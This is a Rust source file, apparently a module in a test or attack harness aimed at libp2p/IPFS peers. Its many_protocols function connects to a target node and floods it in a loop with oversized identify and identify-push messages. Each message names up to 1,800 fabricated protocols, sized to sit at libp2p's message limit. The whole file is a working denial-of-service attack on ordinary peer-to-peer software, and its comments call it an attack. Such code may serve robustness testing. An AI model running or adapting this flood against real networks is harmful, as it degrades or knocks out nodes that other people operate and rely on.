//! identify messages that name 1,800 protocols, or as many as fit.

use super::{
    Stage, refused,
    speaker::Actor,
    wire::{Link, varint},
};
use tokio::io::AsyncWriteExt;

const IDENTIFY: &str = "/ipfs/id/1.0.0";
const PUSH: &str = "/ipfs/id/push/1.0.0";
/// What libp2p takes of one message.
const MESSAGE_BYTES_MAX: usize = 4_096;

/// Answers every question with too much, and pushes new names all the time.
///
/// # Errors
/// When the attack cannot even begin.
pub async fn many_protocols(stage: &Stage) -> anyhow::Result<()> {
    let mut link = Link::tcp(&stage.actor.secret, stage.target.tcp, stage.target.from(), &[IDENTIFY]).await?;
    let mut n = 0;
    while stage.goes_on().await {
        n += 1;
        while let Ok(mut asked) = link.inbound.try_recv() {
            let message = message(&stage.actor, n, 1_800);
            let _ = asked.stream.write_all(&message).await;
            let _ = asked.stream.shutdown().await;
        }
        for protocols in [1_800, fitting(&stage.actor, n)] {
            let Some(mut push) = refused(link.open(PUSH).await) else { continue };
            let _ = push.write_all(&message(&stage.actor, n, protocols)).await;
            let _ = push.shutdown().await;
            let _ = tokio::io::copy(&mut push, &mut tokio::io::sink()).await;
        }
    }
    Ok(())
}

/// How many protocols fit.
fn fitting(actor: &Actor, n: u32) -> usize {
    let one = message(actor, n, 1).len() - message(actor, n, 0).len();
    (MESSAGE_BYTES_MAX - 64) / one
}

/// identify's message, with its length.
fn message(actor: &Actor, n: u32, protocols: usize) -> Vec<u8> {
    let mut body = Vec::new();
    let key = [&[0x08, 0x01, 0x12, 0x20][..], actor.secret.public().as_bytes()].concat();
    field(&mut body, 1, &key);
    for at in 0..protocols {
        field(&mut body, 3, format!("/{n:x}/{at:x}").as_bytes());
    }
    [varint(body.len() as u64), body].concat()
}

/// A field of bytes in a protocol buffer.
pub fn field(body: &mut Vec<u8>, number: u8, bytes: &[u8]) {
    body.push(number << 3 | 2);
    body.extend(varint(bytes.len() as u64));
    body.extend_from_slice(bytes);
}
